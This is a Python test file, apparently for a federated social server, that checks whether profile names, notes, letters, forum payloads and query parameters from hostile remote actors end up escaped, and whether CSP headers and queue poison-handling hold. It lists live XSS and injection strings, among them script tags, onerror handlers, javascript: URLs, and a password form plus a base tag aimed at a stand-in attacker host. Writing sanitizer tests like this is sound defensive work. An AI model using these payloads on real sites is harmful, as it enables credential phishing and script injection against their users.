"""What strangers write, on the pages of this node: words, never markup, and never the last word."""

from html.parser import HTMLParser
from typing import Any
from unittest.mock import patch

import nh3
import pytest

from node.actions import people, perform, school
from node.actions.actors import Card, Profile
from node.actions.context import Context
from node.storage.accounts import Account
from node.storage.database import Transaction
from protocol.canonical import JSONObject, b64
from protocol.effects import Effect
from protocol.space import operation, writing
from protocol.space.writing import By
from tests.attacks.founding import Shared, befriend_people
from tests.attacks.hand import ALIAS, Hand, is_taken, lines
from tests.attacks.hostile import Rogue
from tests.attacks.speaking import Told, send
from tests.attacks.visiting import Visitor, signed_in
from tests.nodes import Node, settle

MARKUP = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "<form action=//evil.example><input name=password></form>",
    '<base href="//evil.example/">',
    "<img src='//evil.example/?",
    "<svg><animate onbegin=alert(1)>",
    "{{ 7 * 7 }}{% raise %}${7*7}#{7*7}",
    ":blob: @eve@evil.example #tag &lt;script&gt; &#60;script&#62;",
    "<!--<script>--><style>@import '//evil.example'</style>",
    "javascript:alert(1)",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<a href="javascript:alert(1)">x</a>',
    "%(school)s %s %(x)d",
)
EVERYTHING = " ".join(MARKUP)


class Page(HTMLParser):
    """The elements of a page, with what is said about each."""

    def __init__(self, told: Told) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.feed(told.body.decode("utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def is_harmless(told: Told) -> Page:
    """Nothing in the page runs, loads, or sends anything that is not our own."""
    page = Page(told)
    for tag, attributes in page.elements:
        assert tag not in {"base", "object", "embed", "iframe", "animate", "style", "marquee"}, tag
        assert not [name for name in attributes if name.startswith("on")], attributes
        assert "style" not in attributes, attributes
        if tag == "script":
            assert attributes["src"].startswith("/static/"), attributes
        for name in ("src", "action", "formaction", "poster", "data"):
            assert attributes.get(name, "/").startswith("/"), attributes
            assert not attributes.get(name, "/").startswith("//"), attributes
        if tag == "meta":
            assert attributes.get("http-equiv", "") == "", attributes
        if tag == "a" and "//" in attributes.get("href", "").partition("?")[0]:
            assert attributes["href"].startswith(("http://", "https://")), attributes
            assert {"nofollow", "noopener", "noreferrer"} <= set(attributes["rel"].split())
        assert not attributes.get("href", "").lower().startswith(("javascript:", "data:", "//"))
    assert "49" not in page.words
    return page


async def shows(visitor: Visitor, target: str) -> Page:
    told = await visitor.get(target)
    assert told.status == 200, (target, told.status)
    return is_harmless(told)


@pytest.fixture
async def ana(alpha: Node) -> Account:
    return await alpha.account("ana")


@pytest.fixture
async def eve(alpha: Node, mallory: Rogue, ana: Account) -> str:
    """Ana's contact at mallory's, whom she follows."""
    mallory.serve(mallory.profile("eve", {"name": EVERYTHING[:120]}))
    eve = f"{mallory.base}/people/eve"
    await befriend_people(alpha, mallory, ana, eve)
    async with alpha.context.database.write() as transaction:
        await transaction.run(
            "INSERT INTO follows (id, follower, followed, state, since_ms) "
            "VALUES ('x', $1, $2, 'following', 0)",
            ana.actor,
            eve,
        )
    return eve


async def test_a122_names_and_texts_are_words_wherever_they_stand(
    alpha: Node, mallory: Rogue, ana: Account, eve: str
) -> None:
    visitor = await signed_in(alpha, "ana")
    there = f"eve@{mallory.base.removeprefix('http://')}"
    for number, markup in enumerate(MARKUP):
        about: JSONObject = {"text": markup, "language": "en"}
        profile = mallory.profile(
            "eve", {"version": number + 2, "name": markup[:120], "about": about}
        )
        await mallory.is_done(alpha, mallory.update(eve, profile))
        note = mallory.note(eve, {"content": markup})
        letter = mallory.note(eve, {"content": markup}, reader=ana.actor)
        await mallory.is_done(alpha, mallory.create(eve, note))
        await mallory.is_done(alpha, mallory.create(eve, letter))
        await shows(visitor, f"/people/{there}")
    for target in ("/home", "/contacts", "/messages", f"/messages/{there}", "/people"):
        page = await shows(visitor, target)
        assert page.elements
    page = await shows(visitor, "/home")
    assert "<script>alert(1)</script>" in " ".join(page.words)


async def test_a122_own_words_are_words_too(alpha: Node, ana: Account) -> None:
    visitor, stranger = await signed_in(alpha, "ana"), Visitor(alpha)
    for markup in MARKUP:
        profile = Profile(markup, about=markup, about_language="en", reach="public")
        await people.update_profile(alpha.context, ana, profile)
        await school.update_card(
            alpha.context, alpha.admin, Card(markup, "PT", city=markup, about=markup,
                                             about_language="en")
        )  # fmt: skip
        for target in ("/", "/about", "/people/ana", "/login"):
            await shows(stranger, target)
        await shows(visitor, "/home")
    for target in (
        f"/login?next={EVERYTHING}",
        f"/people?q={EVERYTHING}",
        f"/home?told={MARKUP[0]}",
    ):
        is_harmless(await visitor.get(target.replace(" ", "%20").replace("#", "%23")))
        is_harmless(await stranger.get(target.replace(" ", "%20").replace("#", "%23")))
    typed = {"handle": EVERYTHING, "password": EVERYTHING, "next": EVERYTHING, "name": EVERYTHING}
    for target in ("/login", "/ask", "/invite/x"):
        is_harmless(await stranger.post(target, typed))


async def test_a124_no_form_no_base_and_no_open_quote_reaches_a_page(
    alpha: Node, mallory: Rogue, ana: Account, eve: str
) -> None:
    note = mallory.note(eve, {"content": EVERYTHING})
    await mallory.is_done(alpha, mallory.create(eve, note))
    visitor = await signed_in(alpha, "ana")
    told = await visitor.get("/home")
    page = is_harmless(told)
    actions = {one.get("action", "") for tag, one in page.elements if tag == "form"}
    assert actions
    assert "evil.example" not in "".join(actions)
    names = {one.get("name", "") for tag, one in page.elements if tag == "input"}
    assert "password" not in names
    policy = told.fields["content-security-policy"]
    for rule in (
        "form-action 'self'",
        "base-uri 'none'",
        "object-src 'none'",
        "default-src 'self'",
    ):
        assert rule in policy
    assert "unsafe-inline" not in policy


async def test_an_address_becomes_a_link_and_shows_its_host(
    alpha: Node, mallory: Rogue, ana: Account, eve: str
) -> None:
    text = "See https://evil.example/login?x=1 and javascript:alert(1) and //evil.example"
    await mallory.is_done(alpha, mallory.create(eve, mallory.note(eve, {"content": text})))
    visitor = await signed_in(alpha, "ana")
    told = await visitor.get("/home")
    page = is_harmless(told)
    away = [one for tag, one in page.elements if tag == "a" and "evil" in one.get("href", "")]
    assert [one["href"] for one in away] == ["https://evil.example/login?x=1"]
    assert b">https://evil.example/login?x=1</a>" in told.body


async def test_a086_what_makes_the_sanitizer_fail_is_not_shown_and_the_page_is(
    alpha: Node, mallory: Rogue, ana: Account, eve: str
) -> None:
    for text in ("The poison.", "The remedy."):
        note = mallory.note(eve, {"content": text})
        await mallory.is_done(alpha, mallory.create(eve, note))
    clean = nh3.clean

    def failing(html: str, tags: set[str], **rest: Any) -> str:
        if "poison" in html:
            raise RecursionError
        return clean(html, tags, **rest)

    visitor = await signed_in(alpha, "ana")
    with patch("nh3.clean", failing):
        told = await visitor.get("/home")
        assert told.status == 200
        assert b"The remedy." in told.body
        assert b"The poison." not in told.body
    assert b"The poison." in (await visitor.get("/home")).body


async def test_a086_what_makes_a_worker_fail_is_put_aside_and_the_queue_goes_on(
    alpha: Node, mallory: Rogue, eve: str
) -> None:
    poison, remedy = mallory.note(eve), mallory.note(eve)
    performing = perform.perform

    async def failing(context: Context, transaction: Transaction, effect: Effect) -> None:
        if getattr(effect, "id", "") == poison["id"]:
            raise ZeroDivisionError
        await performing(context, transaction, effect)

    with patch.object(perform, "perform", failing):
        for note in (poison, remedy):
            letter = mallory.letter(alpha, mallory.create(eve, note))
            assert (await send(alpha, letter)).status == 202
        await settle(alpha)
        assert await alpha.count(f"objects WHERE id = '{remedy['id']}'") == 1
        for _ in range(20):
            alpha.clock.advance(days=1)
            await settle(alpha)
    assert await alpha.count("inbox WHERE state = 'waiting'") == 0
    assert await alpha.count(f"objects WHERE id = '{poison['id']}'") == 0
    assert await alpha.count("inbox WHERE state = 'refused'") == 1


async def test_a_payload_of_another_school_breaks_no_page(
    alpha: Node, mallory: Rogue, shared: Shared, hand: Hand
) -> None:
    visitor = await signed_in(alpha, "ana")
    odd: list[JSONObject] = [
        {"title": 7, "text": {"a": 1}},
        {},
        {"title": "", "text": ""},
        {"title": "T" * 100_000, "text": "x"},
        {"title": EVERYTHING, "text": EVERYTHING},
        {"title": "a\u202eb\u0000c", "text": "\u0000\u2028\ufeff"},
        {"title": ["a"], "text": None, "more": {"deep": [[[[1]]]]}},
    ]
    tags = ("en", "", "xx-YY-zz", 'en" onload="alert(1)', "x" * 5_000, "../../etc", "\u0435n")
    batch = [hand.role()]
    for number in range(len(odd)):
        text = operation.payload(odd[number], tags[number], b"\3" * 16)
        name = (number + 1).to_bytes(16, "big")
        batch.append(_thread(hand, name, text))
    for text in ("not json", "[]", '{"salt":1}', "\u0000", '{"salt":"' + "A" * 22 + '"}'):
        batch.append(_thread(hand, len(batch).to_bytes(16, "big"), text))
    await is_taken(alpha, hand, lines(*batch))
    for target in ("", "/forum", "/members"):
        await shows(visitor, f"/w/{shared.space}{target}")
    async with alpha.context.database.read() as reader:
        rows = await reader.all("SELECT home, object FROM posts WHERE kind = 'thread'")
    for home, name in rows:
        told = await visitor.get(f"/w/{shared.space}/forum/{home}.{name}")
        assert told.status in {200, 404}, told.status
        is_harmless(told)


def _thread(hand: Hand, name: bytes, payload: str) -> operation.Operation:
    object_ = b64(name)
    return hand.write(lambda place: writing.thread(place, By(ALIAS), object_), payload)
